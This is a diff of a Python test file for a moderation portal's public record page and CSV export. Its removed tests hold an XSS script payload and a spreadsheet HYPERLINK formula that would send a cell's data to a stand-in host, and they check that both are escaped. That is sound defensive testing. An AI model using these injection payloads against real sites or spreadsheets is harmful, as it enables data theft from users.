@@ -1,53 +1,19 @@
 """The public record and the statistics over HTTP: what they say, and what nobody may learn from them."""
 
-import csv
-import io
 import re
 import secrets
-from datetime import UTC, datetime, timedelta
-from typing import Any, get_args
+from typing import get_args
 
 import pytest
 
-from moderation import record
 from moderation.case import ANSWERS, Act, Asked, Source, Target
-from moderation.record import Recorded
-from rooms.store import Store
 from tests import decided
 from tests.debate import Debate, gather
 from tests.serving import serving
-from tests.web.reading import read, running
+from tests.web.reading import read
+from tests.web.recorded import FILE, NOW, NUMBERS, NUMBERS_FILE, PAGE, history
 from tests.world import Someone, World
 from web.documents.moderation_words import WORDS
-
-PAGE, FILE = "/moderation/record", "/moderation/record.csv"
-NUMBERS, NUMBERS_FILE = "/moderation/statistics", "/moderation/statistics.csv"
-NOW = datetime.now(UTC)
-HOUR = timedelta(hours=1)
-
-
-async def history(
-    world: World, debate: Debate, people: list[Someone], mark: str, what: str = "hide"
-) -> int:
-    """A case that somebody reported, an act, and a review that upheld it; every word in it has the mark. The act."""
-    moderator, reviewer, reporter = (each.id for each in people)
-    rule = None if what in {"approve", "restore"} else "insult"
-    async with world.sql() as conn, conn.transaction():
-        case_id = await decided.case(conn, debate.post_id, opened_at=NOW - 5 * HOUR)
-        said = f"{mark} lời báo"
-        await decided.report(
-            conn, case_id, reporter, reason="insult", at=NOW - 5 * HOUR, words=said
-        )
-        act_id = await decided.act(
-            conn, case_id, moderator, what, at=NOW - 2 * HOUR, reason=rule,
-            public=f"Nêu đích danh người khác {mark}.", private=f"{mark} ghi chú nội bộ",
-        )  # fmt: skip
-        if rule:
-            await decided.ask(conn, act_id, at=NOW - HOUR, words=f"{mark} xin xem lại")
-            await decided.rule(
-                conn, act_id, reviewer, upheld=True, at=NOW, note=f"Vẫn là xúc phạm {mark}."
-            )
-    return act_id
 
 
 async def marked(world: World, mark: str, visibility: str) -> tuple[Debate, list[Someone]]:
@@ -188,75 +154,3 @@ async def test_moderators_are_named_where_the_portal_says_so(
     assert "Người quyết định: Vũ Đức Kiểm" in of_act(told[PAGE], act_id)
     assert "Vũ Đức Kiểm" in told[FILE]
     assert "Vũ Đức Kiểm" not in told[NUMBERS] + told[NUMBERS_FILE]
-
-
-async def test_notes_are_text_and_formulas_stay_asleep(world: World, public: Debate) -> None:
-    payload = '<script>alert(1)</script><img src=x onerror="alert(2)">'
-    formula = '=HYPERLINK("https://vidu.invalid/?"&A1;"Bấm vào đây")'
-    async with world.sql() as conn:
-        case_id = await decided.case(conn, public.post_id, opened_at=NOW)
-        act_id = await decided.act(
-            conn, case_id, public.observer.id, "hide", at=NOW, reason="spam", public=payload
-        )
-        await decided.ask(conn, act_id, at=NOW)
-        await decided.rule(
-            conn, act_id, public.owner.id, upheld=True, at=NOW, note=f"{formula}\n@dòng hai"
-        )
-    page = (await read(world, PAGE)).text
-    assert running(page) == []
-    assert "&lt;script&gt;alert(1)" in page
-    lines = list(csv.DictReader(io.StringIO((await read(world, FILE)).text.removeprefix("\ufeff"))))
-    (line,) = [line for line in lines if line["id"] == str(act_id)]
-    assert line["public_note"] == payload
-    assert line["review_note"] == f"'{formula}\n@dòng hai"
-
-
-@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r"])
-async def test_a_cell_that_begins_like_a_formula_is_text(
-    world: World, public: Debate, begins: str
-) -> None:
-    async with world.sql() as conn:
-        case_id = await decided.case(conn, public.post_id, opened_at=NOW)
-        act_id = await decided.act(
-            conn, case_id, public.observer.id, "approve", at=NOW, public=f"{begins}1+1, “năm”"
-        )
-    told = (await read(world, FILE)).text
-    (line,) = [
-        line
-        for line in csv.DictReader(io.StringIO(told.removeprefix("\ufeff"), newline=""))
-        if line["id"] == str(act_id)
-    ]
-    assert line["public_note"] == f"'{begins}1+1, “năm”"
-
-
-async def test_the_file_says_what_the_struct_says(world: World, public: Debate) -> None:
-    await history(
-        world, public, [public.owner, public.observer, public.outsider], "Đủ dấu tiếng Việt"
-    )
-    answer = await read(world, FILE)
-    year = (NOW + 7 * HOUR).year
-    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
-    assert (
-        answer.headers["content-disposition"]
-        == f'attachment; filename="moderation-record-{year}.csv"'
-    )
-    assert answer.content.startswith(b"\xef\xbb\xbf"), "spreadsheets know it for UTF-8"
-    store: Store = world.app.state.store
-    async with store.reading() as tx:
-        told = await record.year(tx, year, None, by_name=False)
-    text = answer.text.removeprefix("\ufeff")
-    lines = list(csv.DictReader(io.StringIO(text, newline="")))
-    assert len(lines) == len(told.acts) > 0
-    for line, act in zip(lines, told.acts, strict=True):
-        for name in Recorded.__struct_fields__:
-            assert line[name].removeprefix("'") == written(getattr(act, name)), name
-        assert line["rule"] == ("4" if act.reason == "insult" else line["rule"])
-
-
-def written(value: Any) -> str:
-    """A value as the file has it."""
-    if isinstance(value, datetime):
-        return (value.astimezone(UTC) + 7 * HOUR).strftime("%Y-%m-%dT%H:%M:%S+07:00")
-    if isinstance(value, float):
-        return f"{value:.2f}"
-    return "" if value is None else str(value)
